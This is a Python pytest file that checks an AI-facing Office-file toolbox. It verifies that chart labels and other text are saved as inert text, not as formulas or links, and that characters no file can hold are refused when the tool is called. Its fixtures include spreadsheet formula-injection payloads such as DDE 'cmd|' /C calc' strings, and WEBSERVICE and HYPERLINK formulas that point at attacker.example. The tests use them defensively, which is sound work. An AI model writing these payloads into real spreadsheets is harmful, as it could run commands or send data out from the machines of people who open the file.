"""Text a model sends to the artifact toolbox ends up in an Office file: it is stored as text,
never as a live formula or link, and anything a file cannot hold is refused at the call.

Two classes of bug, each pinned for every tool argument that writes text into a file:

- chart labels (categories and series names) go into the chart's embedded workbook; python-pptx
  writes them with xlsxwriter's `write()`, which by default turns `=...` into a formula and
  `http://...` / `external:...` into a hyperlink. After save the embedded workbook holds no
  formula and no external relationship, and each label reads back exactly as sent;
- a control character (or a lone surrogate, U+FFFE, U+FFFF) that openpyxl, python-pptx or XML
  would refuse only at save time made every later save fail; it is refused at the call, as a
  tool error naming the argument, or the file saves and reads back.
"""

from __future__ import annotations

import io
import json
import re
import zipfile

import pytest

from helpers.artifacts import task as make_task
from lrc.runtime.artifacts import decktools, safezip, tasks
from lrc.runtime.artifacts.toolbox import ArtifactToolbox

BOOK, DECK = tasks.MODEL, tasks.DECK
CHART = {"file": DECK, "slide": 3, "shape": "Revenue chart"}

# Labels that xlsxwriter's write() would make a formula, a link or a number, and text that is
# merely unusual: each is stored as text and reads back exactly.
TEXT_LABELS = [
    "http://attacker.example/c", "https://attacker.example/?q=1&r=2", "ftp://attacker.example/f",
    "mailto:someone@attacker.example", "file:///c:/secret.xlsx", "external:c:\\x.xlsx", "internal:Sheet1!A1",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "{=1+1}", " =1+1",
    "1e5", "0012", "TRUE", "#N/A", "_x0041_", "\u202e=1+1", "ＨＹＰＥＲＬＩＮＫ(\"http://x\")", "日本語 ▲ 😀", "a\nb", "a\tb",
]
# Text that starts with '=' is refused, as write_cells refuses it for a cell's text value.
FORMULA_LABELS = ["=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://attacker.example/x\")",
                  "=HYPERLINK(\"http://attacker.example\",\"click\")", "=1+1", "=Sheet1!A1"]
UNWRITABLE = [chr(c) for c in range(32)] + ["\ud800", "\udfff", "\ufffe", "\uffff"]


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return dict(make_task("refresh-deck-table", "text-hostile").inputs)


def _embedded(deck: bytes) -> dict[str, bytes]:
    outer = zipfile.ZipFile(io.BytesIO(deck))
    found = {}
    for name in outer.namelist():
        if name.startswith("ppt/embeddings/") and name.endswith(".xlsx"):
            inner = zipfile.ZipFile(io.BytesIO(outer.read(name)))
            found.update({f"{name}/{m}": inner.read(m) for m in inner.namelist()})
    assert found, "the deck has no embedded chart workbook"
    return found


def _assert_data_only(deck: bytes) -> None:
    for name, body in _embedded(deck).items():
        text = body.decode("utf-8", "replace")
        assert not re.search(r"<(\w+:)?f[ >]", text), f"{name} holds a formula"
        assert "TargetMode=\"External\"" not in text, f"{name} holds an external relationship"
        assert "<hyperlink" not in text, f"{name} holds a hyperlink"


def _chart_cells(deck: bytes) -> list:
    """The label cells of every embedded chart workbook, as openpyxl reads them back."""
    from openpyxl import load_workbook

    outer = zipfile.ZipFile(io.BytesIO(deck))
    cells = []
    for name in sorted(n for n in outer.namelist() if n.startswith("ppt/embeddings/")):
        ws = load_workbook(io.BytesIO(outer.read(name))).worksheets[0]
        cells.append(([c.value for c in ws["A"][1:]], [c.value for c in ws[1][1:]]))
    return cells


@pytest.mark.parametrize("tool", ["set_chart_data", "add_chart"])
def test_chart_labels_are_stored_as_text_never_formulas_or_links(tmp_path, files, tool):
    tb = ArtifactToolbox(tmp_path / "run", files)
    labels = TEXT_LABELS
    series = [{"name": label, "values": [1] * len(labels)} for label in labels[:5]]
    args = ({**CHART, "categories": labels, "series": series} if tool == "set_chart_data" else
            {"file": DECK, "slide": 2, "shape": "New chart", "chart_type": "column_clustered", "top": 4.5, "height": 2.5,
             "categories": labels, "series": series})
    out = tb.call(tool, args)
    assert not out.is_error, out.content
    saved = tb.call("save", {"file": DECK})
    assert not saved.is_error, saved.content
    deck = tb.outputs()[DECK]
    _assert_data_only(deck)
    assert safezip.inspect(deck, "pptx").external_links == ()
    slide = json.loads(tb.call("read_slide", {"file": DECK, "slide": args["slide"]}).content)
    chart = next(s["chart"] for s in slide["shapes"] if s["name"] == args["shape"])
    assert chart["categories"] == labels
    assert [s["name"] for s in chart["series"]] == labels[:5]
    assert (labels, labels[:5]) in _chart_cells(deck)


@pytest.mark.parametrize("label", FORMULA_LABELS)
@pytest.mark.parametrize("where", ["categories", "series"])
def test_a_chart_label_starting_with_equals_is_refused_like_a_cell_text(tmp_path, files, label, where):
    tb = ArtifactToolbox(tmp_path / "run", files)
    categories = ["Q1", label] if where == "categories" else ["Q1", "Q2"]
    name = label if where == "series" else "Revenue"
    out = tb.call("set_chart_data", {**CHART, "categories": categories, "series": [{"name": name, "values": [1, 2]}]})
    assert out.is_error and tb.mutations == []
    assert ("categories[1]" if where == "categories" else "series[0].name") in out.content


def test_the_chart_data_the_tools_build_writes_every_label_as_text():
    data = decktools.text_chart_data("General")
    data.categories = FORMULA_LABELS + ["http://attacker.example/c", "external:c:\\x.xlsx"]
    data.add_series("=1+1", [1.0] * len(data.categories))
    blob = data.xlsx_blob
    inner = zipfile.ZipFile(io.BytesIO(blob))
    for member in inner.namelist():
        text = inner.read(member).decode("utf-8", "replace")
        assert not re.search(r"<(\w+:)?f[ >]", text) and "External" not in text and "<hyperlink" not in text, member
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(blob)).worksheets[0]
    assert [c.value for c in ws["A"][1:]] == list(FORMULA_LABELS) + ["http://attacker.example/c", "external:c:\\x.xlsx"]
    assert ws["B1"].value == "=1+1" and ws["B1"].data_type == "s"


def _swap_embedded(deck: bytes, blob: bytes) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(deck))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            body = blob if info.filename.startswith("ppt/embeddings/") else src.read(info.filename)
            z.writestr(info.filename, body)
    return out.getvalue()


@pytest.mark.parametrize("label,why", [("=cmd|' /C calc'!A0", "formula"), ("http://attacker.example/c", "external"),
                                       ("external:c:\\x.xlsx", "external")])
def test_a_deck_whose_chart_workbook_holds_a_formula_or_a_link_is_refused(files, label, why):
    from pptx.chart.data import CategoryChartData  # python-pptx's own writer: labels become formulas and links

    data = CategoryChartData()
    data.categories = ["Q1", label]
    data.add_series("Revenue", [1.0, 2.0])
    got = safezip.inspect(_swap_embedded(files[DECK], data.xlsx_blob), "pptx")
    assert not got.ok and why in got.reason and got.reason.startswith("ppt/embeddings/")
    assert safezip.inspect(files[DECK], "pptx").ok


# -- characters no file can hold --------------------------------------------------------------

def _text_calls(ch: str, n: int) -> list[tuple[str, dict, str]]:
    """(tool, args, argument name) for every tool argument whose text is written into a file."""
    s = f"a{ch}b{n}"
    chart = {"chart_type": "line", "categories": ["Q1"], "series": [{"name": "S", "values": [1]}]}
    return [
        ("write_cells", {"file": BOOK, "cells": [{"cell": f"Inputs!H{n + 1}", "value": s}]}, "cells[0].value"),
        ("write_cells", {"file": BOOK, "cells": [{"cell": f"Inputs!I{n + 1}", "value": 1, "number_format": f"0.0{ch}"}]},
         "cells[0].number_format"),
        ("write_cells", {"file": BOOK, "cells": [{"cell": f"Inputs!J{n + 1}", "formula": f'="{s}"'}]}, "cells[0]"),
        ("add_sheet", {"file": BOOK, "sheet": s}, "sheet"),
        ("set_defined_name", {"file": BOOK, "name": f"N{ch}{n}", "refers_to": "IS!$C$4"}, "name"),
        ("edit_slide_text", {"file": DECK, "slide": 1, "shape": "Title 1", "text": s}, "text"),
        ("edit_table_cell", {"file": DECK, "slide": 2, "shape": "Key figures", "row": 2, "column": 2, "text": s}, "text"),
        ("add_slide", {"file": DECK, "layout": "Title Only", "title": s}, "title"),
        ("set_chart_data", {**CHART, "categories": [s], "series": [{"name": "S", "values": [1]}]}, "categories[0]"),
        ("set_chart_data", {**CHART, "categories": ["Q1"], "series": [{"name": s, "values": [1]}]}, "series[0].name"),
        ("add_chart", {"file": DECK, "slide": 4, "shape": s, **chart}, "shape"),
        ("add_chart", {"file": DECK, "slide": 4, "shape": f"C{n}", **chart, "number_format": f"0{ch}"}, "number_format"),
    ]


@pytest.mark.parametrize("index", range(len(_text_calls("x", 0))),
                         ids=[f"{t}-{a}" for t, _, a in _text_calls("x", 0)])
def test_a_character_no_file_can_hold_is_refused_at_the_call_or_saves(tmp_path, files, index):
    tb = ArtifactToolbox(tmp_path / "run", files)
    for n, ch in enumerate(UNWRITABLE):
        tool, args, what = _text_calls(ch, n)[index]
        before = list(tb.mutations)
        out = tb.call(tool, args)
        if out.is_error:
            assert what in out.content, (repr(ch), out.content)
            assert "failed (" not in out.content, (repr(ch), out.content)  # refused up front, not a crash rolled back
            assert tb.mutations == before
            continue
        saved = tb.call("save", {"file": args["file"]})
        assert not saved.is_error, (repr(ch), tool, saved.content)
    # the run can still save and submit, and every file reads back
    done = tb.call("submit", {})
    assert not done.is_error, done.content
    again = ArtifactToolbox(tmp_path / "again", tb.outputs())
    assert not again.call("list_sheets", {"file": BOOK}).is_error
    assert not again.call("list_slides", {"file": DECK}).is_error


def test_a_control_character_in_a_number_format_no_longer_blocks_every_save(tmp_path, files):
    tb = ArtifactToolbox(tmp_path / "run", files)
    out = tb.call("write_cells", {"file": BOOK, "cells": [{"cell": "Inputs!H1", "value": 1, "number_format": "0.00\x01"}]})
    assert out.is_error and "cells[0].number_format" in out.content and "control character" in out.content
    assert not tb.call("submit", {}).is_error


@pytest.mark.parametrize("name,why", [
    ("x\x02y", "control character"), ("a\nb", "control character"), ("a\tb", "control character"),
    ("History", "reserved"), ("history", "reserved"), ("is", "already exists"), ("x" * 32, "the limit is 31"),
    ("'quoted", "may not"), ("quoted'", "may not"), ("a:b", "may not"), ("a\\b", "may not"), ("a?b", "may not"),
    ("a*b", "may not"), ("a[b", "may not"), ("a]b", "may not"), ("", "must not be empty"), (" x", "may not"),
    ("\ud800", "no Office file can hold"),
    ("\U0001F600" * 16, "the limit is 31"),
])
def test_a_sheet_name_follows_excels_rules(tmp_path, files, name, why):
    tb = ArtifactToolbox(tmp_path / "run", files)
    out = tb.call("add_sheet", {"file": BOOK, "sheet": name})
    assert out.is_error and why in out.content and tb.mutations == [], out.content


@pytest.mark.parametrize("name", ["Q1 2024 (draft)", "x" * 31, "\U0001F600" * 15 + "x", "Résumé ▲", "Histories", "a-b_c.d"])
def test_a_usable_sheet_name_saves_and_reads_back(tmp_path, files, name):
    tb = ArtifactToolbox(tmp_path / "run", files)
    assert not tb.call("add_sheet", {"file": BOOK, "sheet": name}).is_error
    assert not tb.call("save", {"file": BOOK}).is_error
    sheets = json.loads(tb.call("list_sheets", {"file": BOOK}).content)["sheets"]
    assert sheets[-1]["sheet"] == name
